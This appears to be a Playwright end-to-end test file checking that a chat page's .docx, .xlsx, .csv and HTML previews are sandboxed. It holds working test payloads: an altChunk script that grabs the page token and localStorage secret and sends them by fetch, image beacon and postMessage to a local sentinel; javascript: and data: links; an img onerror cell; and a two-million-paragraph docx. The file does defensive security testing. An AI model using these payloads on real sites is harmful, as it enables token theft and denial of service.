// previews.test.mjs -- file previews on the chat page, in Chromium against the REAL orchestrator
// (build/cerea-sandbox serve on a free 127.0.0.1 port, started and stopped by pid) with the page's
// real kernel: each test posts a run (through the API, as the assistant does) whose Python writes
// the file under /mnt/output; the page shows its artifact card and opens the first preview by
// itself.  What a hostile .docx does (an altChunk whose HTML reaches for the page token, storage
// and the page; a javascript: hyperlink clicked) must not reach the page; a .docx of two million
// paragraphs must not freeze it; .xlsx, .csv and .tsv show as tables whose cells are text; HTML
// value frames take their content's height (clamped), and only the frame itself can size it.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { execFileSync } from 'node:child_process';
import { launch, orchestrator, backend, watchConsole, screenshot } from './harness.mjs';

let orch = null, skipReason = null, api, browser, page, chat, errors, sentinel;
const hits = [];
const SECRET = 'stored-secret-' + Math.random().toString(36).slice(2);

before(async () => {
  orch = await orchestrator();
  if (orch.skip) { skipReason = orch.skip; return; }
  api = backend(orch.origin, orch.apiKey);
  sentinel = http.createServer((req, res) => { hits.push(`${req.method} ${req.url}`); res.end('x'); });
  await new Promise((r) => sentinel.listen(0, '127.0.0.1', r));
  browser = await launch();
  const c = await api('POST', '/v1/chats', {});
  assert.equal(c.status, 201, c.text);
  chat = c.json;
  page = await browser.ctx.newPage();
  errors = watchConsole(page);
  // Every message the page receives, as text (a leak through postMessage shows here).
  await page.addInitScript(() => {
    window.__messages = [];
    window.addEventListener('message', (e) => { try { window.__messages.push(JSON.stringify(e.data)); } catch { window.__messages.push(String(e.data)); } });
  });
  await page.goto(`${orch.origin}/chat/${chat.chat_id}#token=${chat.page_token}`);
  await page.evaluate((s) => localStorage.setItem('cerea.e2e.secret', s), SECRET);
  await page.waitForFunction(() => window.cereaSession?.stream?.state === 'open', null, { timeout: 20_000 });
  await page.waitForFunction(() => window.cereaSupervisor.state === 'ready', null, { timeout: 90_000 });
});
after(async () => {
  await browser?.close();
  sentinel?.closeAllConnections?.(); sentinel?.close();
  if (orch && !orch.skip) await orch.stop();
});
const need = (t) => { if (skipReason) { t.skip(`orchestrator unavailable: ${skipReason}`); return false; } return true; };

async function run(code) {
  const r = await api('POST', `/v1/chats/${chat.chat_id}/runs`, { code, origin: 'tool', wait_s: 90 });
  assert.ok(r.status === 200 || r.status === 201, r.text);
  assert.equal(r.json.status, 'ok', r.text);
  const card = page.locator(`.run-card[data-run-id="${r.json.run_id}"]`);
  await card.waitFor({ timeout: 30_000 });
  return { run: r.json, card };
}

// Python that writes a .docx (a zip made with zipfile) whose body is `body` (WordprocessingML,
// as a Python expression), with extra relationships and parts.
const W = 'http://schemas.openxmlformats.org/';
const docxCode = (file, body, { rels = '', parts = {} } = {}) => `import zipfile
W = '${W}'
body = ${body}
with zipfile.ZipFile('/mnt/output/${file}', 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr('[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="' + W + 'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    z.writestr('_rels/.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="' + W + 'package/2006/relationships"><Relationship Id="rId1" Type="' + W + 'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    z.writestr('word/_rels/document.xml.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="' + W + 'package/2006/relationships">' + ${JSON.stringify(rels)} + '</Relationships>')
    z.writestr('word/document.xml', '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="' + W + 'wordprocessingml/2006/main" xmlns:r="' + W + 'officeDocument/2006/relationships"><w:body>' + body + '</w:body></w:document>')
${Object.entries(parts).map(([n, v]) => `    z.writestr(${JSON.stringify(n)}, ${JSON.stringify(v)})`).join('\n')}
`;
const para = (text) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;

/** Wait until `text` shows in the preview of the artifact at `sel`, in a frame or in the page; returns where. */
async function shown(sel, text) {
  const inFrame = page.frameLocator(`${sel} iframe`), inPage = page.locator(`${sel} [data-testid=preview]`);
  return Promise.any([inFrame.getByText(text).waitFor({ timeout: 20_000 }).then(() => inFrame),
    inPage.getByText(text).waitFor({ timeout: 20_000 }).then(() => inPage)]);
}

/** The page's own state an attacker wants: marker, globals, what reached its message listener. */
const pageState = () => page.evaluate(() => ({
  marker: document.body.dataset.pwned || null, global: window.__pwned ?? null, title: document.title,
  messages: window.__messages.filter((m) => !/"cerea":"(height|ready|rendered|refused|failed)"/.test(m)),
}));

test('a .docx altChunk runs nothing in the page: no token, no storage, no page access, nothing sent out', async (t) => {
  if (!need(t)) return;
  const S = `http://127.0.0.1:${sentinel.address().port}`;
  const payload = `<!doctype html><html><body><p>chunk</p><script>
var got = [];
try { got.push('hash=' + parent.location.hash); } catch (e) { got.push('hash:blocked'); }
try { got.push('top=' + top.document.title); top.document.body.dataset.pwned = 'altchunk'; top.__pwned = top.location.hash; } catch (e) { got.push('top:blocked'); }
try { got.push('ls=' + (localStorage.getItem('cerea.e2e.secret') || parent.localStorage.getItem('cerea.e2e.secret'))); } catch (e) { got.push('ls:blocked'); }
try { top.postMessage('leak:' + got.join('|'), '*'); } catch (e) {}
try { new Image().src = '${S}/img?' + encodeURIComponent(got.join('|')); } catch (e) {}
try { fetch('${S}/fetch?' + encodeURIComponent(got.join('|'))).catch(function () {}); } catch (e) {}
</script></body></html>`;
  const { card } = await run(docxCode('chunk.docx', JSON.stringify(para('Before the chunk') + '<w:altChunk r:id="rIdHtml"/>' + para('After the chunk')), {
    rels: `<Relationship Id="rIdHtml" Type="${W}officeDocument/2006/relationships/aFChunk" Target="chunk.html"/>`,
    parts: { 'word/chunk.html': payload },
  }));
  // The first artifact's preview opens by itself: wait for the document's text (in the page or
  // in a frame: the page's state is checked first, whatever rendered it).
  const sel = `.run-card[data-run-id="${await card.getAttribute('data-run-id')}"] .artifact[data-name="chunk.docx"]`;
  await shown(sel, 'After the chunk');
  await page.waitForTimeout(1500);   // time for any payload to act
  const st = await pageState();
  assert.equal(st.marker, null, 'the altChunk reached the page DOM');
  assert.equal(st.global, null, 'the altChunk set a global in the page');
  const leaked = st.messages.filter((m) => m.includes(chat.page_token) || m.includes(SECRET) || m.includes('leak:'));
  assert.deepEqual(leaked, [], 'something reached the page by postMessage');
  assert.deepEqual(hits, [], 'the payload reached another server');
  assert.equal(await page.locator('iframe:not([sandbox])').count(), 0, 'a frame without sandbox is in the page');
  const attrs = await page.locator(`${sel} iframe`).evaluate((f) => ({ sandbox: f.getAttribute('sandbox'), csp: /connect-src 'none'/.test(f.srcdoc) }));
  assert.equal(attrs.sandbox, 'allow-scripts', 'the Word preview runs in an opaque-origin sandboxed frame');
  assert.equal(attrs.csp, true, 'with the preview CSP');
});

test('a javascript: hyperlink in a .docx runs nothing on a click; data: links are dropped too', async (t) => {
  if (!need(t)) return;
  const js = "javascript:top.document.body.dataset.pwned='link';top.__pwned=top.location.hash;void 0";
  const link = (id, text) => `<w:p><w:hyperlink r:id="${id}"><w:r><w:t>${text}</w:t></w:r></w:hyperlink></w:p>`;
  const { card } = await run(docxCode('links.docx', JSON.stringify(link('rIdJs', 'click me') + link('rIdData', 'data link') + link('rIdOk', 'a real link')), {
    rels: `<Relationship Id="rIdJs" Type="${W}officeDocument/2006/relationships/hyperlink" Target="${js.replace(/&/g, '&amp;').replace(/'/g, '&apos;')}" TargetMode="External"/>` +
      `<Relationship Id="rIdData" Type="${W}officeDocument/2006/relationships/hyperlink" Target="data:text/html,&lt;script&gt;top.__pwned=1&lt;/script&gt;" TargetMode="External"/>` +
      `<Relationship Id="rIdOk" Type="${W}officeDocument/2006/relationships/hyperlink" Target="https://example.invalid/x" TargetMode="External"/>`,
  }));
  const sel = `.run-card[data-run-id="${await card.getAttribute('data-run-id')}"] .artifact[data-name="links.docx"]`;
  const where = await shown(sel, 'click me');
  await where.getByText('click me').click();
  await where.getByText('data link').click();
  await page.waitForTimeout(1500);
  const st = await pageState();
  assert.equal(st.marker, null, 'the javascript: link reached the page DOM');
  assert.equal(st.global, null, 'the javascript: link ran in the page');
  assert.match(page.url(), /\/chat\//, 'the page stayed where it was');
  const hrefs = await page.frameLocator(`${sel} iframe`).locator('a').evaluateAll((as) => as.map((a) => [a.textContent, a.getAttribute('href')]));
  assert.deepEqual(hrefs.map(([t]) => t).sort(), ['a real link', 'click me', 'data link']);
  assert.deepEqual(hrefs.filter(([, h]) => h !== null).map(([t, h]) => `${t}=${h}`), ['a real link=https://example.invalid/x'],
    'only the http(s) link keeps its address');
  // A card that re-renders moves its artifacts: the frame loads its document again and is sent the bytes again.
  await page.locator(sel).evaluate((el) => { const p = el.parentNode; p.append(el); });
  await page.frameLocator(`${sel} iframe`).getByText('a real link').waitFor({ timeout: 20_000 });
});

test('a .docx of two million paragraphs leaves the page answering and says it is too large', async (t) => {
  if (!need(t)) return;
  // The page's main thread: the longest gap between 100 ms ticks, from now on.
  await page.evaluate(() => {
    window.__gap = 0; let last = performance.now();
    window.__tick = setInterval(() => { const n = performance.now(); window.__gap = Math.max(window.__gap, n - last); last = n; }, 100);
  });
  // Two shapes of the same attack: long paragraphs (over the XML size budget) and empty ones
  // (under it, over the element budget).
  const { run: r, card } = await run(docxCode('huge.docx', `'${para('x')}' * 2_000_000`) +
    docxCode('huge-empty.docx', `'<w:p/>' * 2_000_000`).replace(/^import zipfile\n/, ''));
  const sizes = Object.fromEntries(r.files.map((f) => [f.name, f.size]));
  assert.ok(sizes['huge.docx'] < 1024 * 1024 && sizes['huge-empty.docx'] < 1024 * 1024, `small files: ${JSON.stringify(sizes)}`);
  const first = card.locator('.artifact[data-name="huge.docx"] [data-testid=preview]');
  const firstSaid = first.getByText(/Too large to preview \(.*MB of XML\): download it/).waitFor({ timeout: 30_000 }).then(() => true, () => false);
  await firstSaid;
  await card.locator('.artifact[data-name="huge-empty.docx"] details.preview-fold').evaluate((d) => { d.open = true; }, null, { timeout: 30_000 }).catch(() => {});
  const second = card.locator('.artifact[data-name="huge-empty.docx"] [data-testid=preview]');
  const secondSaid = await second.getByText(/Too large to preview \(2,000,\d{3} elements\): download it/).waitFor({ timeout: 30_000 }).then(() => true, () => false);
  const gap = await page.evaluate(() => { clearInterval(window.__tick); return window.__gap; });
  t.diagnostic(`longest main-thread gap while previewing: ${Math.round(gap)} ms; files ${JSON.stringify(sizes)}`);
  assert.ok(gap < 2000, `the page's main thread stalled ${Math.round(gap)} ms`);
  assert.ok(await firstSaid, 'the preview of huge.docx says it is too large');
  assert.ok(secondSaid, 'the preview of huge-empty.docx says it is too large');
  assert.equal(await first.locator('iframe').count() + await second.locator('iframe').count(), 0, 'the refused documents left no frame');
});

test('an .xlsx shows its sheets as tables (first 200 rows, tabs); cells are text', async (t) => {
  if (!need(t)) return;
  const py = `import openpyxl, datetime, io, base64, sys
wb = openpyxl.Workbook()
ws = wb.active; ws.title = 'Sales'
ws.append(['region', 'amount', 'when', 'ok', 'note'])
for i in range(250):
    ws.append(['r%d' % i, i * 1.5, datetime.datetime(2026, 1, 1 + i % 28), i % 2 == 0, '<img src=x onerror="window.__pwned=1">' if i == 0 else 'n%d' % i])
ws2 = wb.create_sheet('Notes')
ws2.append(['only', 'two'])
ws2.append(['rows', 'here'])
b = io.BytesIO(); wb.save(b); sys.stdout.write(base64.b64encode(b.getvalue()).decode())`;
  const b64 = execFileSync('/usr/bin/python3', ['-c', py], { encoding: 'utf8' });
  const { card } = await run(`import base64\nopen('/mnt/output/book.xlsx', 'wb').write(base64.b64decode('${b64}'))`);
  const preview = card.locator('.artifact[data-name="book.xlsx"] [data-testid=preview]');
  await preview.locator('table.preview-table').first().waitFor({ timeout: 30_000 });
  const tabs = await preview.locator('[role=tab]').allTextContents();
  assert.deepEqual(tabs, ['Sales', 'Notes']);
  const sales = preview.locator('.sheet[data-sheet="Sales"]');
  assert.equal(await sales.locator('tr').count(), 200, 'the first 200 rows');
  assert.deepEqual(await sales.locator('tr').nth(0).locator('td').allTextContents(), ['region', 'amount', 'when', 'ok', 'note']);
  assert.deepEqual(await sales.locator('tr').nth(1).locator('td').allTextContents(), ['r0', '0', '2026-01-01', 'TRUE', '<img src=x onerror="window.__pwned=1">']);
  assert.deepEqual(await sales.locator('tr').nth(4).locator('td').allTextContents(), ['r3', '4.5', '2026-01-04', 'FALSE', 'n3']);
  assert.match(await sales.locator('.note').textContent(), /Showing 200 of 251 rows: download to see all/);
  assert.equal(await page.evaluate(() => window.__pwned ?? null), null, 'a cell ran as markup');
  assert.equal(await preview.locator('img').count(), 0);
  assert.equal(await preview.locator('.sheet[data-sheet="Notes"]').isVisible(), false);
  await preview.getByRole('tab', { name: 'Notes' }).click();
  const notes = preview.locator('.sheet[data-sheet="Notes"]');
  await notes.waitFor({ state: 'visible' });
  assert.equal(await sales.isVisible(), false);
  assert.deepEqual(await notes.locator('td').allTextContents(), ['only', 'two', 'rows', 'here']);
  assert.equal(await preview.getByRole('tab', { name: 'Notes' }).getAttribute('aria-selected'), 'true');
  await card.scrollIntoViewIfNeeded();
  await screenshot(page, 'preview-xlsx');
});

test('.csv and .tsv show as tables: quotes, commas, line breaks and "" inside fields; the first 200 rows', async (t) => {
  if (!need(t)) return;
  const code = `rows = ['id,name,remark'] + ['%d,"Name, %d","line one\\nline two ""quoted"""' % (i, i) for i in range(300)]
open('/mnt/output/people.csv', 'w', newline='').write('\\ufeff' + '\\r\\n'.join(rows) + '\\r\\n')
open('/mnt/output/small.tsv', 'w').write('a\\tb\\n"x\\ty"\\t<b>bold</b>\\n\\n')
`;
  const { card } = await run(code);
  const csv = card.locator('.artifact[data-name="people.csv"] [data-testid=preview]');
  await csv.locator('table.preview-table').waitFor({ timeout: 20_000 });
  assert.equal(await csv.locator('tr').count(), 200);
  assert.deepEqual(await csv.locator('tr').nth(0).locator('td').allTextContents(), ['id', 'name', 'remark']);
  assert.deepEqual(await csv.locator('tr').nth(8).locator('td').allTextContents(), ['7', 'Name, 7', 'line one\nline two "quoted"']);
  assert.match(await csv.locator('.note').textContent(), /Showing the first 200 rows: download to see all/);
  await card.locator('.artifact[data-name="small.tsv"] details.preview-fold').evaluate((d) => { d.open = true; });
  const tsv = card.locator('.artifact[data-name="small.tsv"] [data-testid=preview]');
  await tsv.locator('table.preview-table').waitFor({ timeout: 20_000 });
  assert.deepEqual(await tsv.locator('tr').evaluateAll((trs) => trs.map((tr) => [...tr.cells].map((c) => c.textContent))), [['a', 'b'], ['x\ty', '<b>bold</b>']]);
  assert.equal(await tsv.locator('b').count(), 0, 'a cell was parsed as markup');
  assert.equal(await tsv.locator('.note').count(), 0, 'a whole file says nothing of rows left out');
});

test('HTML value frames take their content height, clamped; only the frame itself can size it', async (t) => {
  if (!need(t)) return;
  // The value frame of a run whose value is a table of `rows` rows, once it is sized (at least `min` px).
  const frameOf = async (rows, min) => {
    const { card } = await run(`class T:
    def _repr_html_(self):
        return '<table>' + ''.join('<tr><td>row %d</td></tr>' % i for i in range(${rows})) + '</table>'
T()`);
    const frame = card.locator('[data-testid=value] iframe.preview-html');
    await frame.waitFor({ timeout: 20_000 });
    const el = await frame.elementHandle();
    await frame.scrollIntoViewIfNeeded();   // as a reader does: an off-screen frame may not be measured yet
    await page.waitForFunction(([f, m]) => f.style.height !== '' && f.getBoundingClientRect().height >= m,
      [el, min], { timeout: 15_000 }).catch(() => {});
    return { frame, h: await frame.evaluate((f) => f.getBoundingClientRect().height) };
  };
  const one = await frameOf(1, 0), thirty = await frameOf(30, 401), many = await frameOf(400, 800);
  t.diagnostic(`frame heights: 1 row ${one.h} px, 30 rows ${thirty.h} px, 400 rows ${many.h} px (was 240 px whatever the content)`);
  assert.ok(one.h >= 40 && one.h < 100, `one row: ${one.h}`);
  assert.ok(thirty.h > 400 && thirty.h < 800, `thirty rows: ${thirty.h}`);
  assert.equal(many.h, 800, 'clamped at 800 px');
  // A message from the page itself, or from another frame, does not size a frame.
  await page.evaluate(() => {
    window.postMessage({ cerea: 'height', height: 5 }, '*');
    const f = document.createElement('iframe');
    f.setAttribute('sandbox', 'allow-scripts');
    f.srcdoc = "<script>parent.postMessage({cerea:'height',height:700},'*')<\/script>";
    document.body.append(f);
  });
  await page.waitForTimeout(1000);
  assert.equal(await one.frame.evaluate((f) => f.getBoundingClientRect().height), one.h);
  assert.equal(await thirty.frame.evaluate((f) => f.getBoundingClientRect().height), thirty.h);
  assert.deepEqual(errors.filter((e) => /Uncaught|TypeError/.test(e)), []);
});
